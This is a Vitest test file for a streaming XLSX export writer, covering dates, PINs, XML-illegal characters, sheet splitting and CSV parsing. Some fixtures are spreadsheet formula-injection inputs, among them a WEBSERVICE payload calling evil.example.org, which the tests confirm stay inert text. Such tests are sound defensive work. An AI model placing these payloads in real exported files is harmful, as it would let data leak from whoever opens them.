import { Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { read, utils, type WorkSheet } from '@e965/xlsx';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import { randomFrom } from '../../testing/random.ts';
import { readCsv } from '../../testing/read-csv.ts';
import { csvCells, type Row } from './csv-cells.ts';
import type { Column, TableRows } from './table.ts';
import { type Book, writeXlsx } from './xlsx.ts';

const mark = 'k3x9';
const columns: Column[] = [
  { name: 'id', kind: 'number' },
  { name: 'pin', kind: 'text' },
  { name: 'seen', kind: 'time' },
  { name: 'again', kind: 'label-or-number' },
  { name: 'photo', kind: 'photo' },
];

const book: Book = {
  name: 'Reports',
  columns,
  isRightToLeft: false,
  about: { name: 'About this file', lines: () => [['Rows', 2]] },
};

const quoted = (cell: string) => (/[",\r\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell);

/** Rows as COPY writes them, cut into chunks of any size. */
const rowsOf = (rows: readonly (string | null)[][], chunk = 64 * 1024): TableRows => {
  const lines = rows.map(
    (row) => `${[...row.map((cell) => (cell === null ? mark : quoted(cell))), mark]}\n`,
  );
  const bytes = Buffer.from(lines.join(''));
  const chunks = Array.from({ length: Math.ceil(bytes.length / chunk) }, (_, at) =>
    bytes.subarray(at * chunk, (at + 1) * chunk),
  );
  return { source: Readable.from(chunks), mark };
};

const fileOf = async (
  rows: readonly (string | null)[][],
  given: Partial<Book> = {},
  limits?: Parameters<typeof writeXlsx>[2],
) => {
  const bytes = await buffer(writeXlsx({ ...book, ...given }, rowsOf(rows), limits));
  const parts = Object.fromEntries(
    Object.entries(unzipSync(bytes)).map(([name, part]) => [name, strFromU8(part)]),
  );
  return { bytes, parts, sheets: read(bytes, { cellFormula: true }) };
};

const cellsOf = (sheet: WorkSheet | undefined) =>
  utils.sheet_to_json<unknown[]>(sheet as WorkSheet, { header: 1, raw: true, defval: null });

const plain = ['7', '007', '10/03/2026 14:05:59', 'No', null];

describe('a sheet', () => {
  test('has true numbers and dates, PINs as text, and words where a number may be missing', async () => {
    const { bytes, sheets } = await fileOf([plain, ['8', '', '31/12/1999 00:00:00', '1', null]]);
    const sheet = read(bytes, { cellNF: true }).Sheets.Reports as WorkSheet;
    expect(cellsOf(sheets.Sheets.Reports)).toEqual([
      ['id', 'pin', 'seen', 'again', 'photo'],
      [7, '007', expect.closeTo(46091 + 50_759 / 86_400, 9), 'No', null],
      [8, null, 36525, 1, null],
    ]);
    expect([sheet.A2.t, sheet.B2.t, sheet.C2.t]).toEqual(['n', 's', 'n']);
    expect(sheet.C2.z).toBe('dd/mm/yyyy\\ hh:mm:ss');
    expect(sheet.B2.z).toBe('@');
  });

  test('has each second of a day, also where a reader cuts its time off', async () => {
    const clocks = Array.from({ length: 1440 }, (_, at) => at * 60 + ((at * 7) % 60));
    const two = (number: number) => String(number).padStart(2, '0');
    const rows = clocks.map((clock) => {
      const [hour, minute, second] = [
        Math.floor(clock / 3600),
        Math.floor(clock / 60) % 60,
        clock % 60,
      ];
      return ['1', 'a', `10/03/2026 ${two(hour)}:${two(minute)}:${two(second)}`, 'No', null];
    });
    const { sheets } = await fileOf(rows);
    const [, ...found] = cellsOf(sheets.Sheets.Reports);
    expect(found.map((row) => Math.floor((Number(row[2]) - 46091) * 86_400))).toEqual(clocks);
  });

  test.each([
    '00/00/0000 1',
    '01/01/1850 10:00:00',
    '10/03/12026 14:05:59',
    'infinity',
  ])('keeps %s, which Excel does not take for a date, as text', async (seen) => {
    const { sheets } = await fileOf([['1', 'a', seen, 'No', null]]);
    expect(cellsOf(sheets.Sheets.Reports)[1]?.[2]).toBe(seen);
  });

  test('keeps every text as it is, and runs none of them', async () => {
    const texts = [
      ...['=1+1', '+1', '-1', '@SUM(A1)', '"=1+1"', '&amp;', '<b>&"</b>', ']]>', "o'brien"],
      ...[
        '  spaces  ',
        'مکان نمبر ۱۲',
        '🏠',
        '_x0041_',
        '_x005F_x0041_',
        'a\nb',
        'tab\tbed',
        'a,b',
      ],
      ...['say "x"', '","', '0001', '1e5', 'TRUE', 'null', 'k3x9x'],
    ];
    const { sheets } = await fileOf(texts.map((text) => ['1', text, '', 'No', null]));
    const sheet = sheets.Sheets.Reports as WorkSheet;
    const [, ...rows] = cellsOf(sheet);
    expect(rows.map((row) => row[1])).toEqual(texts);
    const formulas = Object.values(sheet).filter((cell) => typeof cell === 'object' && 'f' in cell);
    expect(formulas).toEqual([]);
  });

  test('leaves out what no XML may hold, and shortens what no cell takes', async () => {
    const long = 'ش'.repeat(40_000);
    const { sheets, parts } = await fileOf([
      ['1', 'a\u0001b\u000bc\ufffed\uffff', '', 'No', null],
      ['2', long, '', 'No', null],
      ['3', 'line\r\nbreak\rs', '', 'No', null],
    ]);
    const [, first, second, third] = cellsOf(sheets.Sheets.Reports);
    expect(first?.[1]).toBe('abcd');
    expect(second?.[1]).toBe(`${'ش'.repeat(32_766)}…`);
    expect(third?.[1]).toBe('line\nbreak\ns');
    for (const character of ['\u0001', '\u000b', '\r']) {
      expect(parts['xl/worksheets/sheet1.xml']).not.toContain(character);
    }
  });

  test('freezes its header, has its filter on, and begins at the right in Urdu', async () => {
    const { parts } = await fileOf([plain, plain], { isRightToLeft: true });
    const sheet = parts['xl/worksheets/sheet1.xml'] ?? '';
    expect(sheet).toContain(
      '<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>',
    );
    expect(sheet).toContain('<autoFilter ref="A1:E3"/>');
    expect(sheet).toContain('rightToLeft="1"');
    expect(parts['xl/workbook.xml']).toContain("'Reports'!$A$1:$E$3</definedName>");
    const english = await fileOf([plain]);
    expect(english.parts['xl/worksheets/sheet1.xml']).not.toContain('rightToLeft');
  });

  test('links a photo, but nothing that only looks like one', async () => {
    const linkOf = (row: Row) => `https://example.org/report?report=${row.text(0)}&x=1`;
    const evil = '"&WEBSERVICE("https://evil.example.org")&"';
    const { sheets } = await fileOf(
      [
        ['5', 'a', '', 'No', 'ab/abc.jpg'],
        ['6', 'a', '', 'No', evil],
        ['7', 'a', '', 'No', null],
      ],
      { linkOf },
    );
    const { E2, E3, E4 } = sheets.Sheets.Reports as WorkSheet;
    expect(E2).toMatchObject({
      f: 'HYPERLINK("https://example.org/report?report=5&x=1","ab/abc.jpg")',
      v: 'ab/abc.jpg',
    });
    expect([E3.f, E3.v, E4?.v]).toEqual([undefined, evil, undefined]);
  });

  test('of no rows is its header', async () => {
    const { sheets } = await fileOf([]);
    expect(sheets.SheetNames).toEqual(['Reports', 'About this file']);
    expect(cellsOf(sheets.Sheets.Reports)).toEqual([['id', 'pin', 'seen', 'again', 'photo']]);
  });
});

describe('a file', () => {
  test.each([
    [9, ['Reports', 'Reports 2', 'Reports 3']],
    [8, ['Reports', 'Reports 2']],
  ])('of %i rows where four fit has a header in each sheet, and none is lost', async (count, names) => {
    const rows = Array.from({ length: count }, (_, at) => [String(at), `p${at}`, '', 'No', null]);
    const { sheets } = await fileOf(rows, {}, { rows: 5, bytes: 1e9 });
    expect(sheets.SheetNames).toEqual([...names, 'About this file']);
    const all = names.flatMap((name) => {
      const [header, ...cells] = cellsOf(sheets.Sheets[name]);
      expect(header?.[0]).toBe('id');
      return cells.map((row) => row[0]);
    });
    expect(all).toEqual(rows.map((_, at) => at));
  });

  test('begins a new sheet before one is too large to pack', async () => {
    const rows = Array.from({ length: 2000 }, (_, at) => [
      String(at),
      'x'.repeat(50),
      '',
      'No',
      null,
    ]);
    const { sheets } = await fileOf(rows, {}, { rows: 1e6, bytes: 100_000 });
    expect(sheets.SheetNames.length).toBeGreaterThan(2);
    const counts = sheets.SheetNames.slice(0, -1).map(
      (name) => cellsOf(sheets.Sheets[name]).length - 1,
    );
    expect(counts.reduce((sum, count) => sum + count, 0)).toBe(2000);
  });

  test('says on its last sheet what it holds, asked when every row has been seen', async () => {
    let seen = 0;
    const { sheets } = await fileOf([plain, plain, plain], {
      onRow: () => {
        seen += 1;
      },
      about: {
        name: 'اس فائل کے بارے میں',
        lines: () => [
          ['Rows', seen],
          ['Filter', '=1+1'],
        ],
      },
    });
    expect(cellsOf(sheets.Sheets['اس فائل کے بارے میں'])).toEqual([
      ['Rows', 3],
      ['Filter', '=1+1'],
    ]);
  });

  test('whose rows break off breaks too, and what came opens nowhere', async () => {
    async function* broken() {
      yield Buffer.from(`1,a,,No,${mark},${mark}\n`.repeat(50_000));
      throw new Error('the database went away');
    }
    const parts: Buffer[] = [];
    const file = writeXlsx(book, { source: Readable.from(broken()), mark });
    await expect(
      (async () => {
        for await (const part of file) parts.push(part);
      })(),
    ).rejects.toThrow('the database went away');
    expect(() => unzipSync(Buffer.concat(parts))).toThrow();
  });

  test('that nobody reads on ends its source', async () => {
    const rows = rowsOf(Array.from({ length: 100_000 }, () => plain));
    const file = writeXlsx(book, rows);
    await new Promise((resolve) => file.once('data', resolve));
    file.destroy();
    await new Promise((resolve) => file.once('close', resolve));
    expect(rows.source.destroyed).toBe(true);
  });
});

describe('cells of rows', () => {
  test('are those of a CSV reader, wherever the chunks are cut', () => {
    const random = randomFrom(5);
    const texts = ['', 'a', 'a,b', '"', '""', 'x\ny', 'مکان', '","', '\r\n'];
    const rows = Array.from({ length: 300 }, () => [
      random.pick(texts),
      random.pick(texts),
      random.pick(texts),
    ]);
    const csv = rows.map((row) => `${row.map(quoted).join(',')},${mark}\n`).join('');
    const cellsIn = csvCells(mark);
    const found: string[][] = [];
    const bytes = Buffer.from(csv);
    for (let at = 0; at < bytes.length; ) {
      const size = 1 + random.number(9);
      found.push(...cellsIn(bytes.subarray(at, at + size)));
      at += size;
    }
    const decoded = found.map((row) => row.map((cell) => Buffer.from(cell, 'latin1').toString()));
    expect(decoded).toEqual(rows);
    expect(readCsv(rows.map((row) => `${row.map(quoted).join(',')}\r\n`).join(''))).toEqual(rows);
  });
});
